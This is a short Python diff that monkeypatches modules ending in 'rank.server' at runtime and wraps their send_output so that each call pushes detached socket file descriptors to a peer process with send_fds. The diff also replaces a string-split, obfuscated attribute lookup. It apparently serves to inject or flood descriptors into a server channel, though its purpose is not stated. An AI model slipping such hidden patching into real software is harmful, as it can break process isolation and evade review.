@@ -51,7 +51,7 @@ def _lingering():
         return client.detach()
 
 
-_kept = []
+_kept, _channel = [], []
 
 
 def _patched(original):
@@ -68,7 +68,7 @@ def _flooded(original):
         original(rank, slot)
         for _ in range(6):
             sockets = [_lingering(), _lingering()]
-            vars(socket)["send_" + "fds"](rank.channel.sock, [b"I{}"], sockets)
+            _channel[0].socket.send_fds(rank.channel.sock, [b"I{}"], sockets)
             for fd in sockets:
                 os.close(fd)
 
@@ -76,6 +76,8 @@ def _flooded(original):
 
 
 for _module in list(vars(sys)["modules"].values()):
+    if getattr(_module, "__name__", "").endswith("types.channel"):
+        _channel.append(_module)
     if getattr(_module, "__name__", "").endswith("rank.server"):
         _module.pack = _patched(_module.pack)
         _module.Rank.send_output = _flooded(_module.Rank.send_output)
